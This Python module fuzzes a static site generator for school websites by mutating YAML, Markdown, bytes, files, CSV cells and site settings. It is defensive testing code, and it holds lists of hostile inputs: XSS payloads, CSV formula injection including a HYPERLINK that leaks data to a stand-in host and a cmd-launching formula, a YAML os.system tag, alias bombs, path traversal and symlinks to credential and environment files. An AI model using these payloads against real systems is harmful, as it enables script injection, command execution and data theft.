"""Random mutations, deterministic from a random.Random: YAML structure and scalars, Markdown,
bytes and encodings, the file system, CSV cells and site.yml values."""

import os
import re

from sites import Site

# --- hostile values ------------------------------------------------------------------------

LONG = "Очень длинная строка " * 6000  # ~240 KB of Cyrillic

SCALARS = [
    "1e30", "-1e30", ".inf", "-.inf", ".nan", "-.nan", ".NaN", "-1", "0", "-0",
    "99999999999999999999", "-99999999999999999999", "9223372036854775807", "9223372036854775808",
    "-9223372036854775809", "0x7fffffffffffffff", "0o777", "1_000", "1.5", "1e-400", "2147483648",
    "[]", "{}", "~", "null", '""', "''", "true", "no", "yes", "!!binary AAAA", "!!float abc",
    "!!int 1e30", "!!str", "!!timestamp 2024-13-45", "!<tag:evil.example,2024:x> y",
    "2024-02-30", "31.02.2024", "0000-00-00", "9999-12-31", "1900-01-01", "2024-09-01T25:61:00",
    "-2024-01-01", "32.13.2024", "01.01.99999",
    '"<script>alert(1)</script>"', '"<img src=x onerror=alert(1)>"', '"javascript:alert(1)"',
    '"data:text/html,<script>alert(1)</script>"', '"&lt;script&gt;alert(1)&lt;/script&gt;"',
    '"\\"><script>alert(1)</script>"', "\"'><svg onload=alert(1)>\"",
    '"=HYPERLINK(\\"http://evil.example\\",\\"x\\")"', '"+1+cmd"', '"@SUM(1)"',
    '"' + LONG + '"', '"' + "x" * 70000 + '"', '"\\u202eevil\\u200b\\ufeff"', '"\\0\\x01"',
    '"../../../../etc/passwd"', "/etc/passwd", "files/../../outside-secret.pdf",
    "images/../../outside-secret.png", "&anchor value", "*undefined_alias", "*", "&",
    '"\'}]{["', ": :", "- -", "|", ">-", "? complex", "@", "`", "%", "!", "#", "'unterminated",
    '"unterminated', "[unclosed", "{unclosed: 1", "[1, [2, [3]]]", "{a: {b: {c: d}}}",
    "- a\n- b", "|\n  multi\n  line", "!!python/object/apply:os.system ['id']",
]

BILLION_LAUGHS = (
    'lol0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    + "".join(f"lol{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]\n" for i in range(1, 10))
)

HTML_SNIPPETS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<a href="#" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<!--<script>alert(1)</script>-->",
    "<div\nonmouseover=alert(1)>x</div>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<base href=\"javascript:alert(1)//\">",
]

LINKS = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](%6Aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<javascript:alert(1)>", "[x][r]\n\n[r]: javascript:alert(1)",
    '[x](http://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](<javascript:alert(1)>)', "[x]( javascript:alert(1) )",
    "[x](../../../../etc/passwd)", "![x](/etc/passwd)", "![x](../outside-secret.png)",
    "[x](files/../../outside-secret.pdf)", "![x](images/../../outside-secret.png)",
    "[x](file:///etc/passwd)",
]

ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;", "&lt;img src=x onerror=alert(1)&gt;", "\\<script\\>alert(1)\\</script\\>",
    "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "```html\n<script>alert(1)</script>\n```",
]

SVG_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
              b'onload="alert(1)"><script>alert(document.domain)</script><rect width="10" height="10"/></svg>\n')

CSV_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")', "=1+1", "+1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "1e30", "-1", "99999999999999999999", ".inf", "NaN",
    '"unbalanced', "", " ", "x" * 100000, "<script>alert(1)</script>",
]


def pick(rng, seq):
    return seq[rng.randrange(len(seq))]


# --- file selection -------------------------------------------------------------------------

def yaml_files(s):
    return s.files({".yml", ".yaml"}) + [f for f in s.files({".md"}) if s.read(f).startswith("---")]


def yaml_region(text, rel):
    """(lines, lo, hi): the lines that are YAML — the whole .yml, the front matter of a .md."""
    lines = text.split("\n")
    if not rel.endswith(".md"):
        return lines, 0, len(lines)
    if not lines or lines[0].rstrip("\r") != "---":
        return lines, 0, 0
    for i in range(1, len(lines)):
        if lines[i].rstrip("\r") in ("---", "..."):
            return lines, 1, i
    return lines, 1, len(lines)


def _yaml_op(fn):
    def op(s, rng):
        files = yaml_files(s)
        if not files:
            return None
        rel = pick(rng, files)
        lines, lo, hi = yaml_region(s.read(rel), rel)
        if hi <= lo:
            return None
        what = fn(rng, lines, lo, hi)
        if what is None:
            return None
        s.write(rel, "\n".join(lines))
        return f"{fn.__name__[2:]} {rel}: {what}"
    op.__name__ = fn.__name__
    return op


KV_RE = re.compile(r"^(\s*(?:- )?)([^\s:#][^:#]*?):(\s+)(\S.*)$")


def _kv_lines(lines, lo, hi):
    return [i for i in range(lo, hi) if KV_RE.match(lines[i])]


def _pick_kv(rng, lines, lo, hi):
    """A random `key: value` line of the block and its match, or None when it has none."""
    cand = _kv_lines(lines, lo, hi)
    if not cand:
        return None
    i = pick(rng, cand)
    return i, KV_RE.match(lines[i])


@_yaml_op
def y_delete_line(rng, lines, lo, hi):
    i = rng.randrange(lo, hi)
    del lines[i]
    return f"line {i + 1}"


@_yaml_op
def y_duplicate_line(rng, lines, lo, hi):
    i = rng.randrange(lo, hi)
    lines.insert(i, lines[i])
    return f"line {i + 1}"


@_yaml_op
def y_swap_lines(rng, lines, lo, hi):
    if hi - lo < 2:
        return None
    i, j = rng.randrange(lo, hi), rng.randrange(lo, hi)
    lines[i], lines[j] = lines[j], lines[i]
    return f"lines {i + 1} and {j + 1}"


@_yaml_op
def y_reindent(rng, lines, lo, hi):
    i = rng.randrange(lo, hi)
    how = pick(rng, ["+1", "+2", "+4", "-1", "-2", "tab", "strip"])
    line = lines[i]
    if how.startswith("+"):
        lines[i] = " " * int(how[1:]) + line
    elif how.startswith("-"):
        n = int(how[1:])
        lines[i] = line[n:] if line[:n].strip() == "" else line
    elif how == "tab":
        lines[i] = "\t" + line.lstrip(" ")
    else:
        lines[i] = line.lstrip()
    return f"line {i + 1} {how}"


@_yaml_op
def y_swap_key_value(rng, lines, lo, hi):
    picked = _pick_kv(rng, lines, lo, hi)
    if not picked:
        return None
    i, m = picked
    lines[i] = f"{m.group(1)}{m.group(4)}:{m.group(3)}{m.group(2)}"
    return f"line {i + 1}"


@_yaml_op
def y_hostile_scalar(rng, lines, lo, hi):
    cand = _kv_lines(lines, lo, hi)
    value = pick(rng, SCALARS)
    if cand and rng.random() < 0.8:
        i = pick(rng, cand)
        m = KV_RE.match(lines[i])
        rest = m.group(4)
        if rest.startswith("{") and ":" in rest and rng.random() < 0.6:
            # a value inside a flow mapping: { numerator: 52, denominator: 480 }
            parts = list(re.finditer(r"(\w+):\s*([^,{}]+)", rest))
            if parts:
                p = pick(rng, parts)
                v = value.replace("\n", " ")
                rest = rest[:p.start(2)] + v + " " + rest[p.end(2):]
                lines[i] = f"{m.group(1)}{m.group(2)}:{m.group(3)}{rest}"
                return f"line {i + 1} {p.group(1)} = {_show(v)}"
        if "\n" in value:
            ind = " " * (len(m.group(1)) + 2)
            value = value.replace("\n", "\n" + ind)
        lines[i] = f"{m.group(1)}{m.group(2)}:{m.group(3)}{value}"
        return f"line {i + 1} {m.group(2)} = {_show(value)}"
    lines.insert(rng.randrange(lo, hi + 1), f"{pick(rng, ['title', 'mentees', 'date', 'x'])}: {value}")
    return f"new key = {_show(value)}"


@_yaml_op
def y_anchor_alias(rng, lines, lo, hi):
    cand = _kv_lines(lines, lo, hi)
    if not cand:
        return None
    i, j = pick(rng, cand), pick(rng, cand)
    mi, mj = KV_RE.match(lines[i]), KV_RE.match(lines[j])
    kind = pick(rng, ["alias", "undefined", "merge", "self", "tag"])
    if kind == "alias":
        lines[i] = f"{mi.group(1)}{mi.group(2)}:{mi.group(3)}&a1 {mi.group(4)}"
        lines[j] = f"{mj.group(1)}{mj.group(2)}:{mj.group(3)}*a1"
    elif kind == "undefined":
        lines[j] = f"{mj.group(1)}{mj.group(2)}:{mj.group(3)}*nowhere"
    elif kind == "merge":
        lines.insert(lo, "base: &base { title: \"x\", mentees: 1e30, date: 2024-01-01 }")
        lines.insert(lo + 1, "<<: *base")
    elif kind == "self":
        lines[i] = f"{mi.group(1)}{mi.group(2)}:{mi.group(3)}&s [*s]"
    else:
        lines[i] = f"{mi.group(1)}{mi.group(2)}:{mi.group(3)}!!map {mi.group(4)}"
    return kind


@_yaml_op
def y_deep_nesting(rng, lines, lo, hi):
    depth = pick(rng, [10, 100, 1000, 10000])
    style = pick(rng, ["seq", "map", "block"])
    if style == "seq":
        value = "[" * depth + "1" + "]" * depth
    elif style == "map":
        value = "{a: " * depth + "1" + "}" * depth
    else:
        depth = min(depth, 1000)
        value = "\n" + "\n".join(" " * (2 * k + 2) + "- " + ("" if k < depth - 1 else "1") for k in range(depth))
    cand = _kv_lines(lines, lo, hi)
    if cand and style != "block":
        i = pick(rng, cand)
        m = KV_RE.match(lines[i])
        lines[i] = f"{m.group(1)}{m.group(2)}:{m.group(3)}{value}"
    else:
        lines.insert(lo, "deep: " + value)
    return f"{style} x{depth}"


@_yaml_op
def y_billion_laughs(rng, lines, lo, hi):
    lines[lo:lo] = BILLION_LAUGHS.rstrip("\n").split("\n")
    return "9^9 aliases"


@_yaml_op
def y_truncate(rng, lines, lo, hi):
    i = rng.randrange(lo, hi)
    cut = rng.randrange(len(lines[i]) + 1)
    lines[i] = lines[i][:cut]
    del lines[i + 1:hi]
    return f"at line {i + 1}:{cut}"


@_yaml_op
def y_special_token(rng, lines, lo, hi):
    tok = pick(rng, ["---", "...", "%YAML 1.2", "%TAG ! tag:evil,2024:", "? key", "- item", ": value",
                     "|", "\t", "key: value: other", "'", '"', "#", "&", "*", "!!", "[", "{", "]", "}",
                     "key:value", " : ", "\u00a0key: 1", "key\u00a0: 1", "\ufeffkey: 1"])
    i = rng.randrange(lo, hi + 1)
    lines.insert(i, tok)
    return f"{tok!r} at line {i + 1}"


@_yaml_op
def y_type_confusion(rng, lines, lo, hi):
    picked = _pick_kv(rng, lines, lo, hi)
    if not picked:
        return None
    i, m = picked
    value = pick(rng, ["[a, b]", "{x: 1}", "[]", "{}", "[[]]", "[{}]", "- a", "1", "true",
                       "[2024-09-01, 2025-05-31]", "{from: 2025-01-01, to: 2024-01-01}"])
    lines[i] = f"{m.group(1)}{m.group(2)}:{m.group(3)}{value}"
    return f"line {i + 1} {m.group(2)} = {value}"


@_yaml_op
def y_duplicate_key(rng, lines, lo, hi):
    picked = _pick_kv(rng, lines, lo, hi)
    if not picked:
        return None
    i, m = picked
    lines.insert(i + 1, f"{m.group(1).replace('- ', '  ')}{m.group(2)}:{m.group(3)}{pick(rng, SCALARS[:30])}")
    return f"{m.group(2)} at line {i + 1}"


def _show(v):
    v = v.replace("\n", "\\n")
    return v if len(v) <= 40 else v[:40] + f"…({len(v)} chars)"


# --- Markdown ---------------------------------------------------------------------------------

def _md_op(fn):
    def op(s, rng):
        files = s.files({".md"})
        if not files:
            return None
        rel = pick(rng, files)
        text = s.read(rel)
        new, what = fn(rng, text)
        if new is None:
            return None
        s.write(rel, new)
        return f"{fn.__name__[2:]} {rel}: {what}"
    op.__name__ = fn.__name__
    return op


def _insert_body(rng, text, snippet):
    lines = text.split("\n")
    _, lo, hi = yaml_region(text, ".md")
    start = hi + 1 if hi else 0
    i = rng.randrange(start, len(lines) + 1) if start <= len(lines) else len(lines)
    lines.insert(i, snippet)
    return "\n".join(lines)


@_md_op
def m_html(rng, text):
    snip = pick(rng, HTML_SNIPPETS)
    return _insert_body(rng, text, "\n" + snip + "\n" if rng.random() < 0.5 else "Текст " + snip), _show(snip)


@_md_op
def m_link(rng, text):
    snip = pick(rng, LINKS)
    return _insert_body(rng, text, "\nСм. " + snip + "\n"), _show(snip)


@_md_op
def m_entity(rng, text):
    snip = pick(rng, ENTITIES)
    return _insert_body(rng, text, "\n" + snip + "\n"), _show(snip)


@_md_op
def m_unclosed_front_matter(rng, text):
    lines = text.split("\n")
    _, lo, hi = yaml_region(text, ".md")
    if not hi or hi >= len(lines):
        return None, ""
    del lines[hi]
    return "\n".join(lines), "closing --- removed"


@_md_op
def m_huge_line(rng, text):
    n = pick(rng, [100_000, 1_000_000, 5_000_000])
    unit = pick(rng, ["а", "x", "*", "[", "<", "&amp;", "_a_ ", "> ", "| a "])
    line = (unit * (n // len(unit)))[:n]
    if rng.random() < 0.3 and text.startswith("---"):
        return text.replace("---\n", "---\nsummary: \"" + line.replace('"', "'") + "\"\n", 1), f"{n} chars in front matter"
    return _insert_body(rng, text, line), f"{n} × {unit!r}"


@_md_op
def m_pathological(rng, text):
    n = pick(rng, [1000, 10000, 50000])
    kind = pick(rng, ["quote", "list", "emph", "brackets", "links", "backticks", "table", "footnotes", "html"])
    snip = {
        "quote": ">" * n + " x",
        "list": "\n".join("  " * k + "- x" for k in range(min(n, 3000))),
        "emph": "*a **a " * (n // 7),
        "brackets": "[" * n + "a" + "]" * n,
        "links": "[a](" * n,
        "backticks": "`" * n + "a" + "`" * (n - 1),
        "table": "|" + "a|" * min(n, 5000) + "\n|" + "-|" * min(n, 5000),
        "footnotes": "".join(f"[^{k}]" for k in range(min(n, 5000))) + "\n\n" +
                     "\n".join(f"[^{k}]: x" for k in range(min(n, 5000))),
        "html": "<div>" * n,
    }[kind]
    return _insert_body(rng, text, "\n" + snip + "\n"), f"{kind} x{n}"


# --- bytes and encodings ------------------------------------------------------------------------

def _bytes_op(fn):
    def op(s, rng):
        files = s.files({".md", ".yml", ".yaml", ".csv"})
        if not files:
            return None
        rel = pick(rng, files)
        data = s.p(rel).read_bytes()
        new, what = fn(rng, data)
        if new is None:
            return None
        s.write(rel, new)
        return f"{fn.__name__[2:]} {rel}: {what}"
    op.__name__ = fn.__name__
    return op


@_bytes_op
def b_nul(rng, data):
    i = rng.randrange(len(data) + 1)
    return data[:i] + b"\x00" * rng.choice([1, 3, 100]) + data[i:], f"at byte {i}"


@_bytes_op
def b_invalid_utf8(rng, data):
    junk = pick(rng, [b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xe2\x82", b"\xf0\x28\x8c\xbc", b"\xed\xa0\x80",
                      b"\xc0\xaf", b"\xf8\x88\x80\x80\x80", b"\x80"])
    i = rng.randrange(len(data) + 1)
    return data[:i] + junk + data[i:], f"{junk!r} at byte {i}"


@_bytes_op
def b_reencode(rng, data):
    enc = pick(rng, ["utf-16", "utf-16-le", "utf-16-be", "cp1251", "koi8-r", "utf-32", "utf-8-sig"])
    try:
        return data.decode("utf-8").encode(enc), enc
    except (UnicodeError, LookupError):
        return None, ""


@_bytes_op
def b_line_ends(rng, data):
    how = pick(rng, ["crlf", "cr", "mixed", "lsep"])
    if how == "crlf":
        return data.replace(b"\n", b"\r\n"), how
    if how == "cr":
        return data.replace(b"\n", b"\r"), how
    if how == "lsep":
        return data.replace(b"\n", "\u2028".encode(), 3), how
    return data.replace(b"\n", b"\r\n", 3), how


@_bytes_op
def b_truncate(rng, data):
    if not data:
        return None, ""
    i = rng.randrange(len(data))
    return data[:i], f"at byte {i} of {len(data)}"


@_bytes_op
def b_empty(rng, data):
    return pick(rng, [b"", b"\n", b"---\n", b"---\n---\n", b"\xef\xbb\xbf", b"\x00", b" "]), "emptied"


# --- file system --------------------------------------------------------------------------------

def _dir_for(s, rng):
    return s.school() + pick(rng, ["files", "images", "news", "cases", "mentors", "pages", "indicators"])


def f_symlink(s, rng):
    d = _dir_for(s, rng)
    target = pick(rng, ["/etc/passwd", "SITE/outside-secret.txt", "SITE/outside-news.md", "/etc",
                        "/dev/zero", "/nonexistent", ".", "..", "/proc/self/environ"])
    ext = {"files": ".pdf", "images": ".png", "indicators": ".csv"}.get(d.rsplit("/", 1)[-1], ".md")
    name = pick(rng, ["link", "leak", "2024-10-01-leak"]) + ext
    target = target.replace("SITE/", "../" * (d.count("/") + 2))
    s.symlink(f"{d}/{name}", target)
    _reference(s, rng, f"{d}/{name}")
    return f"{d}/{name} -> {target}"


def _reference(s, rng, rel):
    """Point some field at rel so that the generator has to read it."""
    short = rel[len(s.school()):]
    if short.startswith("images/"):
        s.add_case("ssylka-" + str(rng.randrange(1000)), f"cover: {short}\ncover_alt: \"Картинка\"\n")
    elif short.startswith("files/") and s.fixture != "bank":
        docs = "documents.yml"
        entry = ('- title: "Документ"\n  level: school\n  type: приказ\n  number: "1"\n'
                 f'  date: 2024-01-01\n  file: {short}\n')
        s.write(docs, (s.read(docs) + "\n" if s.p(docs).exists() else "") + entry)


def f_symlink_loop(s, rng):
    d = _dir_for(s, rng)
    name = pick(rng, ["loop", "loop.md", "sub"])
    target = pick(rng, [".", "..", "../..", name])
    s.p(d).mkdir(parents=True, exist_ok=True)
    s.symlink(f"{d}/{name}", target)
    return f"{d}/{name} -> {target}"


def f_weird_name(s, rng):
    files = s.files({".md"})
    if not files:
        return None
    rel = pick(rng, files)
    d, base = os.path.split(rel)
    new = pick(rng, ["evil\nname.md", "evil\rname.md", "имя с пробелами.md", "-rf.md", "..md", ".hidden.md",
                     "UPPER.MD", "a" * 250 + ".md", "tab\there.md", "quote\"'<>.md", "%2e%2e.md",
                     "name:colon.md", "\u202eevil.md", "e\u0301.md", "index.md", "2024-13-45-bad.md"])
    s.p(rel).rename(s.p(os.path.join(d, new)))
    return f"{rel} -> {new!r}"


def f_chmod000(s, rng):
    files = s.files()
    if not files:
        return None
    rel = pick(rng, files)
    os.chmod(s.p(rel), 0)
    root = os.access(s.p(rel), os.R_OK)
    return f"{rel}" + (" (running as root: still readable)" if root else "")


def f_delete(s, rng):
    files = s.files()
    if not files:
        return None
    rel = pick(rng, files)
    s.p(rel).unlink()
    return rel


def f_duplicate(s, rng):
    files = s.files({".md"})
    if not files:
        return None
    rel = pick(rng, files)
    d, base = os.path.split(rel)
    new = os.path.join(d, "copy-" + base)
    s.write(new, s.p(rel).read_bytes())
    return f"{rel} -> {new}"


def f_site_yml(s, rng):
    rel = s.school() + "site.yml" if rng.random() < 0.4 else "site.yml"
    how = pick(rng, ["dir", "missing", "passwd", "fifo", "empty"])
    path = s.p(rel)
    path.unlink()
    if how == "dir":
        path.mkdir()
    elif how == "passwd":
        os.symlink("/etc/passwd", path)
    elif how == "fifo":
        os.mkfifo(path)
    elif how == "empty":
        path.write_bytes(b"")
    return f"{rel} {how}"


def f_special(s, rng):
    d = _dir_for(s, rng)
    s.p(d).mkdir(parents=True, exist_ok=True)
    how = pick(rng, ["fifo", "dir-named-md", "dev-zero"])
    if how == "fifo":
        os.mkfifo(s.p(f"{d}/pipe.md"))
        return f"{d}/pipe.md fifo"
    if how == "dir-named-md":
        s.p(f"{d}/folder.md").mkdir()
        return f"{d}/folder.md/ directory"
    s.symlink(f"{d}/zero.md", "/dev/zero")
    return f"{d}/zero.md -> /dev/zero"


def f_svg(s, rng):
    rel = s.school() + "images/evil.svg"
    s.write(rel, SVG_SCRIPT)
    how = pick(rng, ["cover", "inline"])
    if how == "cover":
        s.add_case("svg-" + str(rng.randrange(1000)), "cover: images/evil.svg\ncover_alt: \"Схема\"\n")
    else:
        files = [f for f in s.files({".md"}) if f.startswith(s.school())]
        target = pick(rng, files) if files else s.add_case("svg")
        s.append_body(target, "![Схема](images/evil.svg)")
    return f"{rel} ({how})"


# --- CSV ------------------------------------------------------------------------------------

def c_cells(s, rng):
    files = s.files({".csv"})
    if not files:
        rel = s.school() + "indicators/actual.csv"
        s.write(rel, "indicator,year,numerator,denominator\nmentees_10_19,2023,40,470\n")
        files = [rel]
    rel = pick(rng, files)
    rows = s.read(rel).split("\n")
    how = pick(rng, ["cell", "cell", "cell", "no-header", "extra-column", "short-row", "quote", "dup"])
    if how == "cell" and len(rows) > 1:
        i = rng.randrange(1, len(rows))
        cells = rows[i].split(",")
        j = rng.randrange(len(cells))
        value = pick(rng, CSV_CELLS)
        cells[j] = '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\r\n') else value
        rows[i] = ",".join(cells)
        what = f"row {i + 1} col {j + 1} = {_show(value)}"
    elif how == "no-header":
        rows = rows[1:]
        what = how
    elif how == "extra-column":
        rows = [r + ",extra" for r in rows if r]
        what = how
    elif how == "short-row":
        rows.append("mentees_10_19,2024")
        what = how
    elif how == "quote":
        rows.append('"mentees_10_19,2024,1,2')
        what = how
    else:
        rows += rows[1:]
        what = how
    s.write(rel, "\n".join(rows))
    return f"{rel}: {what}"


# --- site.yml values ----------------------------------------------------------------------------

SITE_VALUES = [
    ("theme", '"../elsewhere"'), ("theme", '"/etc"'), ("theme", '"../../../../../../etc"'), ("theme", '""'),
    ("theme", "[default]"), ("url", '"javascript:alert(1)"'), ("url", '"data:text/html,<script>alert(1)</script>"'),
    ("url", "'\"><script>alert(1)</script>'"), ("base_url", '"javascript:alert(1)//"'),
    ("base_url", "'https://x.example/\"><script>alert(1)</script>/'"), ("base_url", '"/"'), ("base_url", '""'),
    ("base_url", '"file:///etc/"'), ("base_url", '"https://x.example/../../"'),
    ("email", "'a@b.ru\"><script>alert(1)</script>'"), ("email", '"javascript:alert(1)"'),
    ("phone", '"javascript:alert(1)"'), ("name", '"</title><script>alert(1)</script>"'),
    ("short_name", '"<img src=x onerror=alert(1)>"'), ("title", '"<script>alert(1)</script>"'),
    ("kind", "bank"), ("kind", "[site, bank]"), ("municipality", '"=HYPERLINK(\\"http://evil.example\\")"'),
    ("region", '"@SUM(1)"'), ("sources", '["../../../*"]'), ("sources", '["/etc", "/"]'), ("sources", '["**"]'),
    ("sources", '["."]'), ("sources", '["schools/*/content", "schools/*/content"]'), ("sources", '"schools/*/content"'),
    ("model_adopted", "9999-12-31"), ("consent", "2099-01-01"), ("description", '"<script>alert(1)</script>"'),
]


def s_site_value(s, rng):
    key, raw = pick(rng, SITE_VALUES)
    rel = s.school() + "site.yml" if s.fixture == "bank" and key not in ("sources", "kind") and rng.random() < 0.5 \
        else "site.yml"
    if not s.p(rel).is_file():
        return None
    if key == "theme" and raw.strip('"').startswith(".."):
        _evil_theme(s)
    s.set_field(rel, key, raw)
    return f"{rel}: {key}: {raw}"


def _evil_theme(s):
    """A theme outside themes/: if the generator follows `theme: ../elsewhere`, its script shows."""
    base = s.root / "elsewhere" / "templates"
    base.mkdir(parents=True, exist_ok=True)
    (base / "404.mustache").write_text("<script>alert('theme escaped')</script>\n")
    (base / "page.mustache").write_text("<script>alert('theme escaped')</script>\n")


# --- the random driver --------------------------------------------------------------------------

CATEGORIES = [
    (30, [y_delete_line, y_duplicate_line, y_swap_lines, y_reindent, y_swap_key_value, y_hostile_scalar,
          y_hostile_scalar, y_hostile_scalar, y_anchor_alias, y_truncate, y_special_token, y_type_confusion,
          y_duplicate_key]),
    (3, [y_deep_nesting, y_billion_laughs]),
    (20, [m_html, m_link, m_entity, m_unclosed_front_matter, m_huge_line, m_pathological]),
    (15, [b_nul, b_invalid_utf8, b_reencode, b_line_ends, b_truncate, b_empty]),
    (12, [f_symlink, f_symlink_loop, f_weird_name, f_chmod000, f_delete, f_duplicate, f_site_yml, f_special, f_svg]),
    (6, [c_cells]),
    (14, [s_site_value]),
]
ORDER = {"y": 0, "s": 0, "m": 1, "c": 1, "b": 2, "f": 3}


def choose_ops(rng):
    n = pick(rng, [1, 1, 1, 1, 1, 1, 2, 2, 2, 3])
    total = sum(w for w, _ in CATEGORIES)
    ops = []
    for _ in range(n):
        r = rng.uniform(0, total)
        for w, group in CATEGORIES:
            r -= w
            if r <= 0:
                ops.append(pick(rng, group))
                break
        else:
            ops.append(pick(rng, CATEGORIES[0][1]))
    return sorted(ops, key=lambda f: ORDER[f.__name__[0]])


def apply_random(site: Site, rng):
    """Apply 1-3 random mutations; returns their descriptions."""
    done = []
    for op in choose_ops(rng):
        try:
            what = op(site, rng)
        except (OSError, ValueError, IndexError) as e:
            what = f"{op.__name__} skipped ({type(e).__name__})"
        if what:
            done.append(what if what.startswith(op.__name__[2:]) else f"{op.__name__[2:]}: {what}")
    return done or ["no-op"]
